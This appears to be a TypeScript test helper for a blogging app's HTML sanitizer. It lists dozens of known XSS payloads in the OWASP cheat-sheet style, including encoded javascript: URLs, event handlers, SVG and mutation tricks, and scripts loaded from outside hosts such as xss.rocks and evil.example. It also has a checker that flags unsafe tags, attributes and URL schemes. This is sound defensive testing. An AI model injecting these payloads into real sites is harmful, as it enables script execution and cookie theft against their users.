/**
 * Known XSS payloads in the style of the OWASP filter evasion cheat sheet, as they could appear in
 * a post's Markdown body (raw HTML is allowed there), its title or its summary.
 */
export const XSS_VECTORS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<a href="java&#x09;script:alert(1)">tab</a>',
  '<a href="  javascript:alert(1)">spaces</a>',
  '<a href="javascript&colon;alert(1)">colon entity</a>',
  '<a href="jAvAsCrIpT&#58;alert(1)">mixed case</a>',
  '<a href="&#1;javascript:alert(1)">control</a>',
  '<a href="java\u0000script:alert(1)">nul</a>',
  '<a href="vbscript:msgbox(1)">vbscript</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<svg/onload=alert('XSS')>",
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">go</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  "<style>@import 'http://evil.example/xss.css';</style>",
  '<div style="background-image: url(javascript:alert(1))">styled</div>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel=stylesheet href=javascript:alert(1)>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="https://ok.example/" onclick="alert(1)">ok link with handler</a>',
  '<img src="https://ok.example/a.png" alt="ok" onload="alert(1)">',
  '<h2 onclick="alert(1)" id="x">heading</h2>',
  '<p><template><script>alert(1)</script></template></p>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<a href="//evil.example/x">protocol relative</a>',
  '[markdown link](javascript:alert(1))',
  '![markdown image](javascript:alert(1))',
  '[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<javascript:alert(1)>',
  '<a href="javascript:alert(1)" title="&quot;><script>alert(1)</script>">t</a>',
];

/** Tags an article may contain after sanitizing. */
export const ARTICLE_TAGS = new Set([
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'p',
  'a',
  'img',
  'ul',
  'ol',
  'li',
  'dl',
  'dt',
  'dd',
  'blockquote',
  'pre',
  'code',
  'kbd',
  'samp',
  'var',
  'em',
  'strong',
  'b',
  'i',
  'u',
  's',
  'del',
  'ins',
  'sub',
  'sup',
  'mark',
  'small',
  'abbr',
  'cite',
  'q',
  'span',
  'div',
  'figure',
  'figcaption',
  'table',
  'caption',
  'thead',
  'tbody',
  'tfoot',
  'tr',
  'th',
  'td',
  'hr',
  'br',
  'details',
  'summary',
]);

export interface TagInfo {
  name: string;
  attributes: Array<{ name: string; value: string }>;
}

/**
 * The start tags of serialized HTML with their attributes. Good enough for output we produced:
 * text is escaped there, so every `<` followed by a letter opens a tag.
 */
export function startTags(html: string): TagInfo[] {
  const tags: TagInfo[] = [];
  for (const match of html.matchAll(
    /<([a-zA-Z][\w:-]*)((?:\s+[^\s"'>/=]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>]+))?)*)\s*\/?>/g,
  )) {
    const attributes: TagInfo['attributes'] = [];
    for (const a of (match[2] ?? '').matchAll(
      /([^\s"'>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g,
    )) {
      attributes.push({ name: (a[1] ?? '').toLowerCase(), value: decode(a[2] ?? a[3] ?? a[4] ?? '') });
    }
    tags.push({ name: (match[1] ?? '').toLowerCase(), attributes });
  }
  return tags;
}

function decode(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, h: string) => String.fromCodePoint(Number.parseInt(h, 16)))
    .replace(/&#(\d+);?/g, (_, d: string) => String.fromCodePoint(Number(d)))
    .replace(/&colon;/gi, ':')
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'cite',
  'action',
  'formaction',
  'xlink:href',
  'srcset',
  'poster',
  'background',
  'data',
]);

/**
 * Every reason the HTML is not safe: a tag outside `allowedTags`, an event handler, a style
 * attribute, or a URL whose scheme (read as a browser reads it) is not http, https or mailto.
 */
export function unsafeParts(html: string, allowedTags: ReadonlySet<string>): string[] {
  const problems: string[] = [];
  if (/<script/i.test(html)) problems.push('<script');
  if (/<svg/i.test(html)) problems.push('<svg');
  for (const tag of startTags(html)) {
    if (!allowedTags.has(tag.name)) problems.push(`tag <${tag.name}>`);
    for (const attribute of tag.attributes) {
      if (attribute.name.startsWith('on')) problems.push(`<${tag.name} ${attribute.name}>`);
      if (attribute.name === 'style') problems.push(`<${tag.name} style>`);
      if (URL_ATTRIBUTES.has(attribute.name)) {
        const squeezed = attribute.value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
        const scheme = /^([a-z][a-z0-9+.-]*):/.exec(squeezed)?.[1];
        if (scheme !== undefined && !['http', 'https', 'mailto'].includes(scheme)) {
          problems.push(`<${tag.name} ${attribute.name}="${attribute.value}">`);
        }
        if (squeezed.startsWith('//')) problems.push(`protocol-relative <${tag.name} ${attribute.name}>`);
      }
    }
  }
  return problems;
}
